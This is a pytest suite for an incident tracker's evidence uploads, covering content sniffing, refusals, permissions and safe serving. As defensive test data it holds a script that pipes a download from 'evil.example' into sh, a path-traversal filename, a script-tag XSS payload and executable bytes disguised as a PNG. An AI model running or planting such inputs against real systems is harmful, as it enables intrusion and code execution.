"""Evidence files (issue 13 §4): what is accepted, what is refused and how it is said, where the
bytes go, who may see them, and how they are served."""

from __future__ import annotations

import base64
import hashlib
import os
import struct

import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from guardian.shortcuts import assign_perm

from accounts.models import LedgerEvent
from accounts.roles import Role
from config.errors import DomainError
from incidents.evidence import services, sniff
from incidents.models import Evidence

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(64)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + os.urandom(32)
GIF = b"GIF89a" + os.urandom(32)
WEBP = b"RIFF" + struct.pack("<I", 40) + b"WEBPVP8 " + os.urandom(32)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + os.urandom(200)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def stored_files() -> list[str]:
    storage = storages["evidence"]
    found = []
    for folder in storage.listdir("")[0] if os.path.isdir(storage.location) else []:
        found += [f"{folder}/{name}" for name in storage.listdir(folder)[1]]
    return found


@pytest.fixture
def commander(make_user):
    return make_user(Role.INCIDENT_COMMANDER)


@pytest.fixture
def incident(make_incident):
    return make_incident(severity="SEV2")


# --- accepted -------------------------------------------------------------------------------------


def test_an_image_is_stored_under_a_name_failsafe_chose_and_its_hash_is_in_the_ledger(incident, commander, actor_for):
    evidence = services.evidence_add(
        actor=actor_for(commander), incident=incident, upload=upload("../../etc/x.png", PNG)
    )

    assert evidence.kind == "png" and evidence.content_type == "image/png" and evidence.size == len(PNG)
    assert evidence.sha256 == hashlib.sha256(PNG).hexdigest()
    assert evidence.name == "x.png"  # no path from the uploader
    assert evidence.storage_name.startswith(f"{incident.ref}/") and "x.png" not in evidence.storage_name
    with storages["evidence"].open(evidence.storage_name) as stored:
        assert stored.read() == PNG
    event = LedgerEvent.objects.get(verb="evidence.added")
    assert event.incident_ref == incident.ref and event.object_id == str(evidence.pk)
    assert event.after["sha256"] == hashlib.sha256(PNG).hexdigest() and event.after["size"] == len(PNG)


@pytest.mark.parametrize(
    ("name", "content", "kind", "content_type"),
    [
        ("shot.png", PNG, "png", "image/png"),
        ("photo.jpg", JPEG, "jpeg", "image/jpeg"),
        ("anim.gif", GIF, "gif", "image/gif"),
        ("shot.webp", WEBP, "webp", "image/webp"),
        ("report.pdf", PDF, "pdf", "application/pdf"),
        ("transcript.txt", "User: how do I…\nModel: I can't help.\n".encode(), "text", "text/plain; charset=utf-8"),
        ("server.log", b"2026-11-30T10:00:00Z ERROR weights bucket read\n", "text", "text/plain; charset=utf-8"),
        ("alerts.json", b'{"alerts": [1, 2]}', "json", "application/json"),
        ("broken.json", b'{"alerts": [1, 2', "text", "text/plain; charset=utf-8"),  # not JSON: kept as text
        ("accounts.csv", b"account,requests\nacct-1,900\n", "csv", "text/csv; charset=utf-8"),
        ("shot.txt", PNG, "png", "image/png"),  # the content decides, not the name
    ],
)
def test_accepted_kinds_are_told_by_their_content(incident, commander, actor_for, name, content, kind, content_type):
    evidence = services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload(name, content))

    assert (evidence.kind, evidence.content_type) == (kind, content_type)


# --- refused --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "looks_like"),
    [
        (WINDOWS_EXE, "a Windows executable"),
        (b"\x7fELF\x02\x01\x01\x00" + os.urandom(64), "a Linux executable (ELF)"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + os.urandom(64), "a macOS executable (Mach-O)"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + os.urandom(64), "a macOS universal executable or a Java class"),
        (b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "a script (it starts with #!)"),
        (b"PK\x03\x04\x14\x00\x00\x00" + os.urandom(64), "an archive (ZIP, or a format built on it)"),
        (b"MZ", "a Windows executable"),  # shorter than the sniffed head
    ],
)
def test_a_disguised_executable_named_png_is_refused_saying_what_it_looks_like(
    incident, commander, actor_for, content, looks_like
):
    with pytest.raises(DomainError) as refused:
        services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("screenshot.png", content))

    assert refused.value.fields["file"] == [
        f"This file looks like {looks_like}; evidence must be an image (PNG, JPEG, GIF, WebP), a PDF, or UTF-8 "
        "text, JSON or CSV."
    ]
    assert not Evidence.objects.exists() and not LedgerEvent.objects.filter(verb="evidence.added").exists()
    assert stored_files() == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x00\x01\x02binary junk" + bytes(range(256)), "This file is not a format Failsafe accepts"),
        ("caf\u00e9".encode("latin-1"), "This file is not a format Failsafe accepts"),  # not UTF-8
        (b"", "This file is empty."),
    ],
)
def test_unknown_binary_non_utf8_text_and_empty_files_are_refused(incident, commander, actor_for, content, message):
    with pytest.raises(DomainError) as refused:
        services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("x.log", content))

    assert refused.value.fields["file"][0].startswith(message)
    assert not Evidence.objects.exists() and stored_files() == []


def test_the_refusal_page_says_the_file_looks_like_a_windows_executable(incident, commander, client_for):
    response = client_for(commander).post(
        f"/incidents/{incident.ref}/evidence/", {"file": upload("screenshot.png", WINDOWS_EXE)}
    )

    assert response.status_code == 400
    assert "This file looks like a Windows executable; evidence must be an image" in response.content.decode()
    assert not Evidence.objects.exists() and stored_files() == []


def test_an_oversize_file_is_refused_with_the_limit_nothing_stored_and_no_ledger_row(
    incident, commander, client_for, settings
):
    settings.FAILSAFE_EVIDENCE_MAX_BYTES = 25 * 1024 * 1024
    big = upload("capture.txt", b"a" * (25 * 1024 * 1024 + 1))
    before = LedgerEvent.objects.count()

    response = client_for(commander).post(f"/incidents/{incident.ref}/evidence/", {"file": big})

    assert response.status_code == 400
    assert "This file is larger than 25 MB, the limit for evidence." in response.content.decode()
    assert not Evidence.objects.exists() and stored_files() == []
    assert LedgerEvent.objects.count() == before


def test_a_file_that_understates_its_size_is_still_refused_when_counted(incident, commander, actor_for, settings):
    settings.FAILSAFE_EVIDENCE_MAX_BYTES = 1024
    lying = upload("capture.txt", b"a" * 2048)
    lying.size = 10  # what a client claimed; the bytes read are what count

    with pytest.raises(DomainError) as refused:
        services.evidence_add(actor=actor_for(commander), incident=incident, upload=lying)

    assert refused.value.fields["file"] == ["This file is larger than 1 KB, the limit for evidence."]
    assert not Evidence.objects.exists() and stored_files() == []


def test_two_uploads_of_the_same_name_never_overwrite_each_other(incident, commander, actor_for):
    first = services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("a.txt", b"one\n"))
    second = services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("a.txt", b"two\n"))

    assert first.storage_name != second.storage_name
    assert storages["evidence"].open(first.storage_name).read() == b"one\n"


# --- who may add, who may see ----------------------------------------------------------------------


def test_auditors_read_evidence_but_may_not_add_it(incident, commander, make_user, actor_for, client_for, api_for):
    services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("a.txt", b"log\n"))
    auditor = make_user(Role.AUDITOR)

    assert client_for(auditor).get(f"/incidents/{incident.ref}/evidence/").status_code == 200
    assert (
        client_for(auditor).post(f"/incidents/{incident.ref}/evidence/", {"file": upload("b.txt", b"x")}).status_code
        == 403
    )
    answer = api_for(auditor).post(
        f"/api/v1/incidents/{incident.ref}/evidence/", {"file": upload("b.txt", b"x")}, format="multipart"
    )
    assert answer.status_code == 403
    assert Evidence.objects.count() == 1


def test_a_responder_outside_the_incident_may_not_add_evidence_but_a_participant_may(incident, make_user, actor_for):
    outsider = make_user(Role.RESPONDER)
    with pytest.raises(DomainError) as refused:
        services.evidence_add(actor=actor_for(outsider), incident=incident, upload=upload("a.txt", b"x\n"))
    assert refused.value.code == "forbidden"

    incident.participants.add(outsider)
    assert services.evidence_add(actor=actor_for(outsider), incident=incident, upload=upload("a.txt", b"x\n"))
    reporter = incident.reporter
    assert services.evidence_add(actor=actor_for(reporter), incident=incident, upload=upload("b.txt", b"y\n"))


@pytest.fixture
def restricted(make_incident, make_user, actor_for):
    reporter = make_user(Role.RESPONDER)
    incident = make_incident(by=reporter, restricted=True, title="Hazardous details")
    evidence = services.evidence_add(actor=actor_for(reporter), incident=incident, upload=upload("a.png", PNG))
    return incident, evidence


def test_restricted_evidence_is_404_to_the_ungranted_on_every_door(restricted, make_user, client_for, api_for):
    incident, evidence = restricted
    ungranted = make_user(Role.INCIDENT_COMMANDER)
    pages, api = client_for(ungranted), api_for(ungranted)
    doors = [
        pages.get(f"/incidents/{incident.ref}/evidence/"),
        pages.get(f"/incidents/{incident.ref}/evidence/{evidence.pk}/download/"),
        pages.post(f"/incidents/{incident.ref}/evidence/", {"file": upload("b.txt", b"x")}),
        api.get(f"/api/v1/incidents/{incident.ref}/evidence/"),
        api.get(f"/api/v1/incidents/{incident.ref}/evidence/{evidence.pk}/download/"),
        api.post(f"/api/v1/incidents/{incident.ref}/evidence/", {"file": upload("b.txt", b"x")}, format="multipart"),
    ]

    assert [door.status_code for door in doors] == [404] * 6
    assert all(PNG not in getattr(door, "content", b"") for door in doors)
    assert Evidence.objects.count() == 1


def test_restricted_evidence_downloads_for_the_granted(restricted, make_user, client_for):
    incident, evidence = restricted
    granted = make_user(Role.AUDITOR)
    assign_perm("view_restricted_incident", granted, incident)

    response = client_for(granted).get(f"/incidents/{incident.ref}/evidence/{evidence.pk}/download/")

    assert response.status_code == 200 and b"".join(response.streaming_content) == PNG


def test_another_incidents_ref_does_not_reach_its_evidence(restricted, make_incident, make_user, client_for):
    incident, evidence = restricted
    other = make_incident()  # visible to everyone
    response = client_for(make_user(Role.INCIDENT_COMMANDER)).get(
        f"/incidents/{other.ref}/evidence/{evidence.pk}/download/"
    )

    assert response.status_code == 404


def test_the_storage_location_is_never_shown_nor_served(incident, commander, actor_for, client_for, api_for):
    evidence = services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("a.png", PNG))
    page = client_for(commander).get(f"/incidents/{incident.ref}/evidence/").content.decode()
    listed = api_for(commander).get(f"/api/v1/incidents/{incident.ref}/evidence/").json()["results"][0]

    assert evidence.storage_name not in page and evidence.storage_name not in str(listed)
    assert "storage_name" not in listed and listed["download"].endswith(f"/evidence/{evidence.pk}/download/")
    for guess in (f"/media/{evidence.storage_name}", f"/evidence/{evidence.storage_name}", f"/{evidence.storage_name}"):
        assert client_for(commander).get(guess).status_code == 404


# --- how it is served --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type", "filename"),
    [
        ("shot.png", PNG, "image/png", "shot.png"),
        ("page.html", b"<script>alert(1)</script>\n", "text/plain; charset=utf-8", "page.html.txt"),
        ("invoice.exe", b"just text\n", "text/plain; charset=utf-8", "invoice.exe.txt"),
    ],
)
def test_downloads_are_attachments_with_their_contents_type_and_nosniff(
    incident, commander, actor_for, client_for, api_for, name, content, content_type, filename
):
    evidence = services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload(name, content))
    for response in (
        client_for(commander).get(f"/incidents/{incident.ref}/evidence/{evidence.pk}/download/"),
        api_for(commander).get(f"/api/v1/incidents/{incident.ref}/evidence/{evidence.pk}/download/", HTTP_ACCEPT="*/*"),
    ):
        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response["Content-Security-Policy"]
        assert response["Repr-Digest"] == f"sha-256=:{base64.b64encode(hashlib.sha256(content).digest()).decode()}:"
        assert b"".join(response.streaming_content) == content


def test_the_api_download_answers_whatever_the_accept_header(incident, commander, actor_for, api_for):
    evidence = services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("a.png", PNG))
    response = api_for(commander).get(
        f"/api/v1/incidents/{incident.ref}/evidence/{evidence.pk}/download/", HTTP_ACCEPT="image/png"
    )
    assert response.status_code == 200 and response["Content-Type"] == "image/png"


# --- the API -------------------------------------------------------------------------------------------


def test_api_upload_returns_the_hash_and_a_repeated_key_stores_once(incident, commander, api_for):
    api = api_for(commander)
    url = f"/api/v1/incidents/{incident.ref}/evidence/"

    first = api.post(url, {"file": upload("a.pdf", PDF), "description": "vendor report"}, format="multipart",
                     HTTP_IDEMPOTENCY_KEY="k-1")  # fmt: skip
    again = api.post(url, {"file": upload("a.pdf", PDF), "description": "vendor report"}, format="multipart",
                     HTTP_IDEMPOTENCY_KEY="k-1")  # fmt: skip

    assert first.status_code == 201, first.content
    assert first.json()["sha256"] == hashlib.sha256(PDF).hexdigest() and first.json()["kind"] == "pdf"
    assert again.status_code == 201 and again["Idempotent-Replayed"] == "true"
    assert Evidence.objects.count() == 1


def test_api_refusals_are_400_naming_the_file_field(incident, commander, api_for, settings):
    settings.FAILSAFE_EVIDENCE_MAX_BYTES = 1024
    api = api_for(commander)
    url = f"/api/v1/incidents/{incident.ref}/evidence/"

    exe = api.post(url, {"file": upload("a.png", WINDOWS_EXE)}, format="multipart")
    big = api.post(url, {"file": upload("a.txt", b"a" * 1025)}, format="multipart")
    missing = api.post(url, {"description": "no file"}, format="multipart")
    extra = api.post(url, {"file": upload("a.txt", b"a"), "sha256": "x"}, format="multipart")

    assert exe.status_code == 400 and "Windows executable" in exe.json()["errors"]["file"][0]
    assert big.status_code == 400 and big.json()["errors"]["file"] == [
        "This file is larger than 1 KB, the limit for evidence."
    ]
    assert missing.status_code == 400 and "file" in missing.json()["errors"]
    assert extra.status_code == 400 and "sha256" in extra.json()["errors"]
    assert not Evidence.objects.exists()


def test_the_incident_page_lists_its_evidence_and_links_sharing(incident, commander, actor_for, client_for):
    services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload("a.png", PNG))
    evidence = Evidence.objects.get()
    page = client_for(commander).get(f"/incidents/{incident.ref}/").content.decode()
    assert "a.png" in page and f"/incidents/{incident.ref}/evidence/{evidence.pk}/download/" in page
    assert f"/incidents/{incident.ref}/shares/" in page


@pytest.mark.parametrize("where", ["page", "api"])
def test_the_evidence_list_costs_the_same_queries_for_3_and_30_files(
    where, incident, commander, actor_for, client_for, api_for, django_assert_num_queries
):
    client = client_for(commander) if where == "page" else api_for(commander)
    url = f"/incidents/{incident.ref}/evidence/" if where == "page" else f"/api/v1/incidents/{incident.ref}/evidence/"

    def grow(n):
        for k in range(n):
            services.evidence_add(actor=actor_for(commander), incident=incident, upload=upload(f"{k}.txt", b"x\n"))

    grow(3)
    client.get(url)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    grow(27)
    with django_assert_num_queries(len(small)):
        response = client.get(url)
    assert response.status_code == 200


# --- the sniffer on its own ----------------------------------------------------------------------------


def test_sniffing_reads_text_chunk_by_chunk_across_a_split_character():
    sniffer = sniff.Sniffer()
    data = ("é" * 10).encode()
    for k in range(len(data)):  # one byte at a time: every multi-byte character is split
        sniffer.feed(data[k : k + 1])
    assert sniffer.result("x.txt").kind == "text"


def test_the_limit_is_described_as_a_person_reads_it():
    assert services.describe_bytes(25 * 1024 * 1024) == "25 MB"
    assert services.describe_bytes(1536) == "1.5 KB"
    assert services.describe_bytes(900) == "900 bytes"


# --- stale pages and repeats ---------------------------------------------------------------------------


def test_an_upload_from_a_page_loaded_before_the_incident_was_restricted_is_404(incident, make_user, client_for):
    commander = make_user(Role.INCIDENT_COMMANDER)  # sees it now, has no grant
    client = client_for(commander)
    assert client.get(f"/incidents/{incident.ref}/evidence/").status_code == 200
    type(incident).objects.filter(pk=incident.pk).update(restricted=True)

    response = client.post(f"/incidents/{incident.ref}/evidence/", {"file": upload("a.png", PNG)})

    assert response.status_code == 404
    assert not Evidence.objects.exists() and stored_files() == []


def test_the_service_reads_visibility_from_the_database_not_a_stale_copy(incident, make_user, actor_for):
    commander = make_user(Role.INCIDENT_COMMANDER)
    stale = type(incident).objects.get(pk=incident.pk)  # read while unrestricted
    type(incident).objects.filter(pk=incident.pk).update(restricted=True)

    with pytest.raises(DomainError) as refused:
        services.evidence_add(actor=actor_for(commander), incident=stale, upload=upload("a.png", PNG))

    assert refused.value.code == "not_found"
    assert not Evidence.objects.exists() and stored_files() == []


def test_submitting_the_same_upload_form_twice_stores_once(incident, commander, client_for):
    client = client_for(commander)
    token = "t" * 24
    first = client.post(f"/incidents/{incident.ref}/evidence/", {"file": upload("a.png", PNG), "submit_token": token})
    again = client.post(f"/incidents/{incident.ref}/evidence/", {"file": upload("a.png", PNG), "submit_token": token})

    assert first.status_code == again.status_code == 302
    assert Evidence.objects.count() == 1
